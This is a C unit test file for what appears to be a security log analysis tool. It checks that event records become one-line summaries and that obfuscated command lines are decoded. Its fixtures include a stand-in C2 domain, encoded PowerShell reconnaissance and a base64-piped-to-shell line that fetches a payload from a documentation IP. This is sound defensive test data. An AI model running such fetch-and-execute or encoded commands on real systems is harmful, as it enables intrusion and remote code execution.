#include "app/pivot.h"
#include "core/record.h"
#include "tests/support/cmocka.h"

struct said {
    enum field field;
    const char *text;
};

static const struct {
    struct said fields[10];
    const char *line;
} lines[] = {
    {{{FIELD_EVENT_CATEGORY, "process"}, {FIELD_EVENT_ACTION, "start"},
         {FIELD_PROCESS_NAME, "WINWORD.EXE"}, {FIELD_PROCESS_PID, "8112"},
         {FIELD_PARENT_NAME, "OUTLOOK.EXE"}, {FIELD_PARENT_PID, "6604"},
         {FIELD_PROCESS_COMMAND_LINE, "\"C:\\Program Files\\W.EXE\" invoice.docm"}},
        "OUTLOOK.EXE 6604 > WINWORD.EXE 8112 invoice.docm"},
    {{{FIELD_EVENT_CATEGORY, "process"}, {FIELD_EVENT_ACTION, "end"},
         {FIELD_PROCESS_EXECUTABLE, "/usr/bin/curl"}, {FIELD_PROCESS_PID, "71"}},
        "curl 71 end"},
    {{{FIELD_EVENT_CATEGORY, "network"}, {FIELD_PROCESS_NAME, "curl"}, {FIELD_PROCESS_PID, "71"},
         {FIELD_DESTINATION_IP, "198.51.100.9"}, {FIELD_DESTINATION_PORT, "443"},
         {FIELD_DESTINATION_DOMAIN, "c2.example.com"}},
        "curl 71 > 198.51.100.9:443 (c2.example.com)"},
    {{{FIELD_EVENT_CATEGORY, "network"}, {FIELD_SOURCE_IP, "192.0.2.7"},
         {FIELD_DNS_QUESTION, "c2.example.com"}, {FIELD_DNS_ANSWERS, "198.51.100.9"}},
        "192.0.2.7 asks for c2.example.com = 198.51.100.9"},
    {{{FIELD_EVENT_CATEGORY, "file"}, {FIELD_PROCESS_NAME, "sh"}, {FIELD_PROCESS_PID, "60"},
         {FIELD_FILE_PATH, "/tmp/.x"}},
        "sh 60 /tmp/.x"},
    {{{FIELD_EVENT_CATEGORY, "authentication"}, {FIELD_MESSAGE, "accepted key\nfor mori"}},
        "accepted key"},
    {{{FIELD_EVENT_ACTION, "audit-log-cleared"}}, "audit-log-cleared"},
};

static void a_record_is_said_in_one_line(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
        struct batch b;
        struct str out = STR_INIT;
        batch_init(&b);
        struct record *r = batch_add(&b, RECORD_EVENT);
        for (const struct said *s = lines[i].fields; s->text; s++)
            record_set_text(r, &b.arena, s->field, s->text);
        str_add(&out, "", 0);
        pivot_summary(r, &out);
        assert_string_equal(out.p, lines[i].line);
        str_release(&out);
        batch_release(&b);
    }
}

static const struct {
    const char *line, *decoded;
} commands[] = {
    /* "whoami /all" in UTF-16LE */
    {"powershell -nop -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==", "whoami /all"},
    {"powershell.exe /EncodedCommand dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==", "whoami /all"},
    {"sh -c 'echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3g= | base64 -d | sh'",
        "curl -s http://198.51.100.9/x"},
    {"[Convert]::FromBase64String(\"Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3g=\")",
        "curl -s http://198.51.100.9/x"},
    {"/usr/lib/systemd/systemd-logind --flag", ""},
    {"powershell -enc !!!", ""},
    {"powershell -enc", ""},
    {"", ""},
};

static void encoded_pieces_are_decoded_for_reading(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++) {
        struct str out = STR_INIT;
        pivot_decode(commands[i].line, &out);
        if (strcmp(out.p, commands[i].decoded) != 0)
            fail_msg("%s gave \"%s\"", commands[i].line, out.p);
        str_release(&out);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_record_is_said_in_one_line),
        cmocka_unit_test(encoded_pieces_are_decoded_for_reading),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
